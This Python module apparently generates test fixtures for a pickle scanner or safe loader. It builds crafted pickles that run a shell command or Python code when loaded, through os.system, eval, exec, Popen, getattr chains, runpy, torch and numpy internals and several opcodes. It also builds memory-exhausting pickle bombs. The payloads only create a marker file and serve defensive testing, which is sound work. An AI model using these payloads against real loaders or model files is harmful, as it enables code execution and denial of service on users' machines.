"""Pickles that run code in whoever loads them as usual, and some that fill the memory."""

from __future__ import annotations

import io
import os
import pickle
import shlex
import struct
from pathlib import Path

import torch

SCRIPT = "script.py"  # beside the marker, which it makes


class Command:
    """Is pickled as a call of the shell, which whoever unpickles it carries out."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def attacks(marker: Path) -> dict[str, bytes]:
    """Pickles that make a marker when they are loaded, by what they go through."""
    shell = f"touch {shlex.quote(str(marker))}"
    python = f"open({str(marker)!r}, 'w').close()"
    system, run = name("posix", "system"), text(shell)
    the_os = call(name("importlib", "import_module"), text("os"))
    popen, words = name("subprocess", "Popen"), b"](" + text("touch") + text(str(marker)) + b"e"
    the_list = name("builtins", "list")
    once = (text("pass"), name("time", "perf_counter"), b"K\x01")
    # An object that hands its state to the shell, once it has got the shell as its state.
    namespace = name("types", "SimpleNamespace")
    state = b"}" + text("__setstate__") + system + b"sb" + run + b"b"
    saved = io.BytesIO()
    torch.save(Command(shell), saved)
    made = {
        "posix.system": call(system, run),
        "builtins.eval": call(name("builtins", "eval"), text(python)),
        "builtins.exec": call(name("builtins", "exec"), text(python)),
        "Popen": call(popen, words),
        "copyreg": call(name("copyreg", "_reconstructor"), popen, popen, words),
        "getattr": call(call(name("builtins", "getattr"), the_os, text("system")), run),
        "attrgetter": call(call(call(name("operator", "attrgetter"), text("system")), the_os), run),
        "partial": call(call(name("functools", "partial"), system, run)),
        "map": call(the_list, call(name("builtins", "map"), system, b"(" + run + b"l")),
        "nested": call(name("pickle", "loads"), raw(pickle.dumps(Command(shell)))),
        "runpy": call(name("runpy", "run_path"), text(str(marker.with_name(SCRIPT)))),
        "timeit": call(name("timeit", "timeit"), text(python), *once),
        "torch.load": call(name("torch.storage", "_load_from_bytes"), raw(saved.getvalue())),
        "torch.collect_env": call(name("torch.utils.collect_env", "run"), run),
        "numpy.runstring": call(name("numpy.testing", "runstring"), text(python), b"}"),
        "INST": b"(" + run + b"iposix\nsystem\n",
        "OBJ": b"(" + system + run + b"o",
        "STACK_GLOBAL": call(text("posix") + text("system") + b"\x93", run),
        "BUILD": namespace + b")\x81" + state,
        "NEWOBJ_EX": namespace + b")}\x92" + state,
        "a value": b"}" + text("data") + call(system, run) + b"s",
    }  # fmt: skip
    by_protocol = {f"protocol {n}": pickle.dumps(Command(shell), n) for n in range(6)}
    return {key: b"\x80\x04" + value + b"." for key, value in made.items()} | by_protocol


def bombs() -> dict[str, bytes]:
    """Pickles of few bytes that claim much memory, or are read as much."""
    lists = b"]K\x00a" + b"".join(b"q\x01]h\x01ah\x01a" for _ in range(40))
    return {
        "a memo far away": b"\x80\x02}r\xff\xff\xff\x0f.",
        "a long number": b"\x80\x02\x8b\xff\xff\xff\x7f.",
        "long bytes": b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b".",
        "a long bytearray": b"\x80\x05\x96" + struct.pack("<Q", 1 << 31) + b".",
        "a long frame": b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b".",
        "lists of lists": b"\x80\x02}" + string(b"data") + lists + b"s.",
        "a deep list": b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b".",
        "many digits": b"L" + b"9" * 1_000_000 + b"L\n.",
    }


def odd() -> dict[str, bytes]:
    """Pickles that ask their loader for something by other means than a name."""
    return {
        "a persistent id": b"\x80\x02Pos.system\n.",
        "a binary persistent id": b"\x80\x02" + text("os.system") + b"Q.",
        "an extension": b"\x80\x02\x82\x01.",
        "a buffer": b"\x80\x05\x97.",
        "nothing": b"",
        "no end": b"\x80\x02}",
    }


def name(module: str, attribute: str) -> bytes:
    """The instruction that finds a thing by its name."""
    return f"c{module}\n{attribute}\n".encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def string(value: bytes) -> bytes:
    """What Python 2 calls a string."""
    return b"U" + bytes([len(value)]) + value


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value
